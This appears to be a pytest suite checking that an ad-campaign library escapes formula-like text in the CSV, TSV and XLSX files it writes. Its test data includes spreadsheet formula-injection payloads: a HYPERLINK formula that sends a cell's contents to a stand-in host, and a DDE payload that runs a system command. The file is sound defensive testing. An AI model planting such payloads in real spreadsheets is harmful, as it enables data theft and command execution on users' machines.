"""Attacks by formulas: text of the API that a spreadsheet program would compute."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from prefect_staticadslab import JobState, RowStatus, StaticAdsLabClient
from prefect_staticadslab.campaign.catalogue_tables.report import write_report
from prefect_staticadslab.campaign.catalogue_tables.rows import read_resource_rows
from prefect_staticadslab.campaign.files.cells import frame_of
from prefect_staticadslab.campaign.files.formulas import escape_formula, unescape
from prefect_staticadslab.campaign.job_types.image_ads import Campaign, ImageAdTable
from prefect_staticadslab.campaign.names.brief import Brief
from prefect_staticadslab.campaign.names.expand import expand
from prefect_staticadslab.campaign.names.lookup import look_up
from prefect_staticadslab.simulator import SimulatorServer
from tests.conftest import simulated_ids, write_campaign

FORMULAS = [
    '=HYPERLINK("http://stranger.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
]
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def cells_of(place: Path) -> list[str]:
    delimiter = "\t" if place.suffix == ".tsv" else ","
    with place.open(newline="", encoding="utf-8-sig") as file:
        return [cell for line in csv.reader(file, delimiter=delimiter) for cell in line]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("ending", [".csv", ".tsv"])
def test_nothing_that_the_api_says_is_a_formula_in_a_text_table(
    formula: str, ending: str, tmp_path: Path
) -> None:
    output = tmp_path / f"out{ending}"
    table = Campaign.open(write_campaign(tmp_path, "a"), str(output)).table
    said = formula.strip()
    state = JobState(RowStatus.PROCESSING, job_id=said, image_url=said, error=said, image_path=said)
    table.update(0, state)
    table.save_now()
    assert [cell for cell in cells_of(output) if cell.startswith(BEGINS)] == []
    assert ImageAdTable.reopen(str(output)).states[0] == state


def test_an_xlsx_has_texts_and_no_formulas(tmp_path: Path) -> None:
    output = tmp_path / "out.xlsx"
    table = Campaign.open(write_campaign(tmp_path, "=1+1"), str(output)).table
    table.update(0, JobState(RowStatus.FAILED, error="=1+1"))
    table.save_now()
    cells = [cell for line in load_workbook(output).active.rows for cell in line]  # type: ignore[union-attr]
    assert {cell.data_type for cell in cells if cell.value == "=1+1"} == {"s"}
    assert [cell for cell in cells if cell.data_type == "f"] == []


@pytest.mark.parametrize("formula", [*FORMULAS, "-"])
def test_her_own_cells_stay_what_they_are(formula: str, tmp_path: Path) -> None:
    ids = simulated_ids()
    place = tmp_path / "in.csv"
    with place.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow([*ids, "prompt", "note"])
        writer.writerow([*ids.values(), formula, formula])
    output = tmp_path / "out.csv"
    campaign = Campaign.open(str(place), str(output))
    campaign.table.save_now()
    assert cells_of(output).count(formula) == 2
    again = Campaign.open(str(place), str(output))
    assert [row.identity for row in again.table.rows] == [r.identity for r in campaign.table.rows]
    assert again.table.totals().removed == 0


@pytest.mark.parametrize("formula", [text for text in FORMULAS if text == text.strip()])
async def test_a_name_of_the_catalogue_is_no_formula_and_the_ad_stays_the_same(
    formula: str, tmp_path: Path, simulator: SimulatorServer, client: StaticAdsLabClient
) -> None:
    ids = simulated_ids()
    for audience in simulator.api.catalogue.audiences.values():
        audience["name"] = f"{formula} {audience['id']}"
    place = tmp_path / "in.csv"
    header = "design_template_id,brand_id,product_id,audience,prompt"
    cells = [ids["design_template_id"], ids["brand_id"], ids["product_id"], "*", "{audience}!"]
    place.write_text(f"{header}\n{','.join(cells)}\n")
    output = tmp_path / "out.csv"
    brief = Brief.open(str(place))
    catalogue = await look_up(client, brief)
    campaign = Campaign.open(brief, str(output), catalogue=catalogue)
    campaign.table.save_now()
    assert len(campaign.table.rows) > 1
    assert all(row.request.prompt.startswith(formula) for row in campaign.table.rows)  # type: ignore[union-attr]
    assert [cell for cell in cells_of(output) if cell.startswith(BEGINS)] == []
    again = Campaign.open(brief, str(output), catalogue=catalogue)
    assert again.table.totals().removed == 0
    assert [r.request for r in again.table.rows] == [r.request for r in campaign.table.rows]
    # The table is a spreadsheet, too, and makes the very same ads.
    read = expand(Brief.open(str(output)), catalogue)
    names = read.frame["sent_audience"]
    assert all(text.startswith((formula, f"'{formula}")) for text in names)


@pytest.mark.parametrize("formula", [text for text in FORMULAS if text == text.strip()])
def test_a_catalogue_as_csv_has_no_formulas_and_is_read_as_it_was(
    formula: str, tmp_path: Path
) -> None:
    write_report(f"{tmp_path}/", {"new": frame_of(["kind", "name"], [["brand", formula]])})
    assert [cell for cell in cells_of(tmp_path / "new.csv") if cell.startswith(BEGINS)] == []
    (brand,) = read_resource_rows(str(tmp_path / "new.csv"))
    assert brand.name == formula


@given(st.text(st.sampled_from("'=+-@\t\r\nax＝")))
def test_what_is_made_inert_is_read_as_it_was_written(text: str) -> None:
    assert unescape(escape_formula(text)) == text
    assert not escape_formula(text).startswith(BEGINS)


def test_marks_of_rows_on_their_way_are_no_formulas(tmp_path: Path) -> None:
    """An idempotency key in a cell must be read exactly, or a row is paid for twice."""
    table = Campaign.open(write_campaign(tmp_path, "a"), str(tmp_path / "out.csv")).table
    state = replace(JobState(RowStatus.SUBMITTING, attempts=1), error="- see the docs")
    table.update(0, state)
    table.save_now()
    assert ImageAdTable.reopen(str(tmp_path / "out.csv")).states[0] == state
